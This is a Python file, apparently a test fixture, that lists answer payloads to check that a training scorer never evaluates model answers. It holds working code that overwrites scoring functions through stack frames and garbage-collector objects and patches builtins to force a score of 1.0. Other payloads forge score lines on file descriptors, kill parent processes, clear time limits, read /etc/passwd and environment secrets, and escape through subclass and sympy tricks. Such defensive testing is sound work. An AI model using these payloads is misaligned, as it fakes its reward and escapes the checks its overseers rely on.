"""Answers that a scorer would run if it evaluated them. Each tries to change a verdict or to touch something outside.

In braces stand the places to attack; a payload has none itself, as `\\boxed{..}` would end at them.
"""

# What the expressions run, as statements; an answer can only be an expression.
STATEMENTS = {
    "frame walking": """
import sys
frame = sys._getframe()
while frame is not None:
    for space in (frame.f_globals, frame.f_locals):
        for name, value in list(space.items()):
            if name in ('_score', 'score', 'scorer', '_reply', '_read_result', 'readable', 'may_evaluate'):
                space[name] = lambda *a, **k: 1.0
            for part in ('_score', '_collect', '_end', 'score_answer', '_waiting', '_children'):
                try:
                    setattr(type(value), part, lambda *a, **k: 1.0)
                except (TypeError, AttributeError):
                    pass
    frame = frame.f_back
""",
    "replies on every descriptor": """
import os
for fd in range(1024):
    for number in range(40):
        line = '%s"number": %d, "score": 1.0, "failure": null%s' % (chr(123), number, chr(125))
        try:
            os.write(fd, line.encode() + bytes([10]))
        except OSError:
            pass
""",
    "descriptors of other processes": """
import os
for pid in ('self', os.getppid(), 1):
    for fd in range(64):
        try:
            open('/proc/%s/fd/%d' % (pid, fd), 'wb', buffering=0).write(b'x' * 9 + bytes([10]))
        except OSError:
            pass
""",
    "modules replaced": """
import json, math, re, struct, sys, builtins
json.dumps = json.loads = lambda *a, **k: dict(score=1.0, failure=None, number=0)
math.isfinite = math.isclose = lambda *a, **k: True
struct.pack = lambda *a: (1).to_bytes(8, 'little')
builtins.float = builtins.len = builtins.min = builtins.max = lambda *a, **k: 1.0
builtins.eval = builtins.int = lambda *a, **k: 1
for name in ('sympy', 'numpy', 'reasoning_gym', 'prime_trainer.verify.worker', 'prime_trainer.verify.answer_scorers'):
    module = sys.modules.get(name)
    for part in list(vars(module)) if module else ():
        if callable(getattr(module, part)):
            setattr(module, part, lambda *a, **k: 1.0)
sys.modules.clear()
""",
    "scorers replaced": """
import gc
for found in gc.get_objects():
    try:
        if hasattr(type(found), 'score_answer'):
            type(found).score_answer = lambda *a: 1.0
        if isinstance(found, dict) and '_loaded' in found:
            found['_loaded'].update((key, lambda *a: 1.0) for key in found['_loaded'])
    except Exception:
        pass
""",
    "at exit and threads": """
import atexit, os, threading, time
def late(*a):
    for fd in range(64):
        try:
            os.write(fd, bytes(8) + bytes([10]))
        except OSError:
            pass
atexit.register(late)
try:
    threading.Thread(target=lambda: [time.sleep(0.1) or late() for _ in range(100)], daemon=False).start()
except RuntimeError:
    pass
""",
    "hard exit": """
import os
os._exit(0)
""",
    "limits cleared and asleep": """
import resource, signal, time
try:
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.alarm(0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (OSError, ValueError):
    pass
while True:
    try:
        time.sleep(0.1)
    except BaseException:
        pass
""",
    "processes and signals": """
import os, signal, subprocess
for attempt in (lambda: os.system('touch {target}; sleep 60 &'),
                lambda: subprocess.Popen(['sleep', '60']),
                lambda: os.fork() or os.execv('/bin/sleep', ['sleep', '60']),
                lambda: os.kill(os.getppid(), signal.SIGKILL),
                lambda: os.kill(-1, signal.SIGKILL),
                lambda: os.kill({trainer}, signal.SIGTERM),
                lambda: os.killpg(0, signal.SIGKILL),
                lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)):
    try:
        attempt()
    except (OSError, SystemError):
        pass
""",
    "files": """
import os
for path in ('{target}', '/tmp/{name}', '/dev/shm/{name}', '/var/tmp/{name}', '{name}'):
    for flags in (os.O_CREAT | os.O_WRONLY, os.O_CREAT | os.O_RDWR, os.O_CREAT | os.O_RDONLY):
        try:
            os.write(os.open(path, flags), b'x')
        except OSError:
            pass
    for attempt in (os.mkdir, lambda path: os.symlink('/', path), lambda path: os.mknod(path)):
        try:
            attempt(path)
        except OSError:
            pass
for path in ('{secret}', '/etc/passwd', '/proc/self/environ', '/proc/1/environ', '/root/.bash_history'):
    try:
        assert False, open(path).read()
    except OSError:
        pass
""",
    "network": """
import socket
for family, address in ((socket.AF_INET, ('127.0.0.1', {port})), (socket.AF_UNIX, '{socket}')):
    try:
        socket.socket(family).connect(address)
    except OSError:
        pass
""",
}

EXPRESSIONS = {
    "a float that is more": "type('F', (float,), dict(__float__=lambda s: 1.0, __eq__=lambda s, o: True, "
    "__lt__=lambda s, o: False, __gt__=lambda s, o: False, __hash__=lambda s: 0))(1)",
    "equal to everything": "type('T', (str,), dict(__eq__=lambda s, o: True, __ne__=lambda s, o: False, "
    "__iter__=lambda s: iter([s]), __str__=lambda s: s, __hash__=lambda s: 0, __sub__=lambda s, o: 0, "
    "diff=lambda s, *a, **k: s, __int__=lambda s: 24, __float__=lambda s: 24.0))('x')",
    "subclasses": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]("
    "['touch', '{target}'])",
    "sympy": "lambdify([], 1, modules=[__import__('os').system('touch {target}')])()",
    "a function's globals": "(lambda f: f.__globals__.update(score=1))(sympify.__func__ if 0 else sympify)",
    "an f-string": "f''.join(open('{secret}'))",
}


def payloads(places: dict[str, object]) -> dict[str, str]:
    """Every answer by its name, with the places filled in; without braces, quotes balanced."""
    found = {name: f"exec({_literal(text.format(**places))}) or 1" for name, text in STATEMENTS.items()}
    return found | {name: text.format(**places) for name, text in EXPRESSIONS.items()}


def _literal(text: str) -> str:
    # A box ends at a brace, and what is scored has no line of its own.
    assert "{" not in text and "}" not in text
    return repr(text)
